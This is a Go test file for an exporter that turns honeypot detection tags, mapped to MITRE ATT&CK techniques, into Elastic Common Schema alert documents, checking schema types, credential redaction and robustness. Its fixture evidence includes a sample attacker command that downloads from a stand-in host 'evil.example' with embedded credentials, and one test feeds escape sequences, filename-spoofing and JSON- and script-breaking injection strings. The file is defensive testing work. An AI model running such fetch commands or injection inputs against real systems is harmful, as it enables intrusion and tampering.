package ecs

import (
	"bytes"
	"errors"
	"io"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
)

// fields are those of the schema (www.elastic.co/guide/en/ecs/8.17/ecs-field-reference.html)
// that are written, with their types; [] stands for "this field should contain an
// array of values".
var fields = map[string]string{
	"@timestamp": "date", "ecs.version": "keyword",
	"event.id": "keyword", "event.kind": "keyword", "event.category": "keyword[]", "event.type": "keyword[]", "event.module": "keyword", "event.dataset": "keyword",
	"event.provider": "keyword", "event.action": "keyword", "event.reference": "keyword", "event.risk_score": "float",
	"threat.framework": "keyword", "threat.tactic.id": "keyword[]", "threat.tactic.name": "keyword[]", "threat.tactic.reference": "keyword[]",
	"threat.technique.id": "keyword[]", "threat.technique.name": "keyword[]", "threat.technique.reference": "keyword[]",
	"threat.technique.subtechnique.id": "keyword[]", "threat.technique.subtechnique.name": "keyword[]", "threat.technique.subtechnique.reference": "keyword[]",
	"rule.id": "keyword", "rule.version": "keyword", "rule.ruleset": "keyword", "source.ip": "ip", "source.address": "keyword",
	"observer.type": "keyword", "observer.vendor": "keyword", "observer.product": "keyword", "observer.version": "keyword", "observer.name": "keyword",
	"organization.name": "keyword", "process.command_line": "wildcard", "url.original": "wildcard", "user_agent.original": "keyword", "user.name": "keyword",
	"file.name": "keyword", "file.hash.md5": "keyword", "file.hash.sha1": "keyword", "file.hash.sha256": "keyword", "file.hash.sha512": "keyword",
	"related.ip": "ip[]", "related.hosts": "keyword[]", "related.hash": "keyword[]", "related.user": "keyword[]",
	// Ours: ECS leaves names that are no field set of its own to others.
	"ttpctl.confidence": "float", "ttpctl.source_id": "keyword", "ttpctl.session_id": "keyword", "ttpctl.attacker_uuid": "keyword", "ttpctl.identity_uuid": "keyword",
	"ttpctl.attack_release": "keyword", "ttpctl.urls": "keyword[]",
}

// values are those that the schema allows in fields of few.
var values = map[string]string{"event.kind": "alert", "event.category": "intrusion_detection", "event.type": "info"}

// check holds one document to the schema, and returns its fields.
func check(t *testing.T, line []byte) map[string]any {
	t.Helper()
	if !jsontext.Value(line).IsValid() {
		t.Fatalf("no strict JSON: %.200s", line)
	}
	var doc map[string]any
	if err := json.Unmarshal(line, &doc); err != nil {
		t.Fatal(err)
	}
	flat := map[string]any{}
	flatten(flat, "", doc)
	for name, v := range flat {
		kind, list := strings.CutSuffix(fields[name], "[]")
		all, isList := v.([]any)
		if kind == "" || list != isList {
			t.Errorf("field %s: %v, want type %q", name, v, fields[name])
			continue
		}
		if !isList {
			all = []any{v}
		}
		for _, v := range all {
			if !fits(kind, v) || values[name] != "" && v != values[name] {
				t.Errorf("field %s: %v, want type %s", name, v, kind)
			}
		}
	}
	return flat
}

func flatten(flat map[string]any, prefix string, doc map[string]any) {
	for name, v := range doc {
		if inner, ok := v.(map[string]any); ok {
			flatten(flat, prefix+name+".", inner)
			continue
		}
		flat[prefix+name] = v
	}
}

// fits reports whether v is of a type of Elasticsearch.
func fits(kind string, v any) bool {
	s, isText := v.(string)
	switch kind {
	case "date":
		_, err := time.Parse(time.RFC3339, s)
		return isText && err == nil
	case "ip":
		_, err := netip.ParseAddr(s)
		return isText && err == nil
	case "float":
		_, ok := v.(float64)
		return ok
	}
	return isText && s != ""
}

func full() event.Tag {
	return event.Tag{
		UUID: event.UUID{1}, AttackerIP: "203.0.113.9", AttackerUUID: "a", IdentityUUID: "i", SessionID: event.Some("s1"), DeckyID: event.Some("decoy-1"),
		SourceKind: "command", SourceID: "c1", Tactic: "TA0005", Technique: "T1070", SubTechnique: "T1070.003", Confidence: 0.85, RuleID: "R0012", RuleVersion: 2,
		Evidence: []byte(`{"raw_url":"/x?y","user_agent":"curl","username":"root","filename":"a.exe",` +
			`"shasum":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","command_text":"wget http://bob:hunter2@evil.example/a; curl http://192.0.2.200/b"}`),
		AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/T1070/003", ObservedAt: "2026-09-14T01:00:05.5Z",
	}
}

func write(t *testing.T, tags ...event.Tag) [][]byte {
	t.Helper()
	var b bytes.Buffer
	w := New(&b, Options{Catalogue: attack.Load(), Version: "1", Producer: "hive"})
	if err := errors.Join(w.Write(tags), w.Close()); err != nil {
		t.Fatal(err)
	}
	lines := bytes.Split(bytes.TrimSuffix(b.Bytes(), []byte("\n")), []byte("\n"))
	if len(lines) != max(len(tags), 1) {
		t.Fatalf("%d lines of %d tags", len(lines), len(tags))
	}
	return lines
}

func TestDocument(t *testing.T) {
	line := write(t, full())[0]
	flat := check(t, line)
	md5, sha1, sha512 := "file.hash.md5", "file.hash.sha1", "file.hash.sha512"
	for name := range fields {
		if _, ok := flat[name]; !ok && name != md5 && name != sha1 && name != sha512 {
			t.Errorf("a tag that has it all gives no %s", name)
		}
	}
	want := `"threat":{"framework":"MITRE ATT&CK","tactic":{"id":["TA0005"],"name":["Stealth"],"reference":["https://attack.mitre.org/tactics/TA0005"]},` +
		`"technique":{"id":["T1070"],"name":["Indicator Removal"],"reference":["https://attack.mitre.org/techniques/T1070"],` +
		`"subtechnique":{"id":["T1070.003"],"name":["Clear Command History"],"reference":["https://attack.mitre.org/techniques/T1070/003"]}}}`
	if !bytes.Contains(line, []byte(want)) || bytes.Contains(line, []byte("hunter2")) || !bytes.Contains(line, []byte(`"risk_score":85}`)) {
		t.Errorf("document %s", line)
	}
}

func TestBareTag(t *testing.T) {
	flat := check(t, write(t, event.Tag{SourceKind: "command", Technique: "T9999", Tactic: "TA9999", RuleID: "R1", SourceID: "x", AttackRelease: "y", ObservedAt: "soon"})[0])
	for _, name := range []string{"@timestamp", "source.ip", "threat.technique.name", "related.ip", "process.command_line"} {
		if v, ok := flat[name]; ok {
			t.Errorf("%s: %v, want none", name, v)
		}
	}
}

// Evidence of another tag is never shown, wherever it lies in memory.
func TestEvidenceIsItsOwn(t *testing.T) {
	buf := []byte(`{"username":"root"}`)
	x := full()
	x.Evidence = buf
	w := New(io.Discard, Options{Catalogue: attack.Load()})
	if err := w.Write([]event.Tag{x}); err != nil {
		t.Fatal(err)
	}
	copy(buf, `{"username":"toor"}`)
	var b bytes.Buffer
	w.w = &b
	if err := w.Write([]event.Tag{x}); err != nil || !strings.Contains(b.String(), "toor") {
		t.Errorf("%v, %s, want the user toor", err, b.String())
	}
}

func TestHostile(t *testing.T) {
	for _, text := range []string{
		"\x1b[2J\x1b]0;pwned\a", "a\r\nb\tc\x00\x7f", "\u202ecod.exe", "\xff\xfe\xc3", `","x`, "</script>", strings.Repeat("A", 1<<20), "::1%\x00", "999999-01-01T00:00:00Z",
	} {
		x := full()
		quoted, _ := jsontext.AppendQuote(nil, text)
		x.Evidence = []byte(`{"command_text":` + string(quoted) + `,"shasum":` + string(quoted) + `,"raw_url":` + string(quoted) + `}`)
		x.AttackerIP, x.AttackerUUID, x.SourceKind, x.SourceID, x.SessionID, x.DeckyID = text, text, text, text, event.Some(text), event.Some(text)
		x.Tactic, x.Technique, x.SubTechnique, x.RuleID, x.AttackRelease, x.ObservedAt = text, text, text, text, text, text
		line := write(t, x)[0]
		check(t, line)
		if bytes.Contains(line, []byte(`\u0000`)) || bytes.Contains(line, []byte(`\u001b`)) || len(line) > 64<<10 {
			t.Errorf("%.20q: %d bytes, or control characters: %.200s", text, len(line), line)
		}
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestWriteFails(t *testing.T) {
	w := New(brokenWriter{}, Options{Catalogue: attack.Load()})
	if err := w.Write([]event.Tag{full()}); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("Write = %v, want the writer's error", err)
	}
}

func BenchmarkWrite(b *testing.B) {
	w := New(io.Discard, Options{Catalogue: attack.Load(), Producer: "hive"})
	tags := []event.Tag{full()}
	b.ReportAllocs()
	for b.Loop() {
		if err := w.Write(tags); err != nil {
			b.Fatal(err)
		}
	}
}
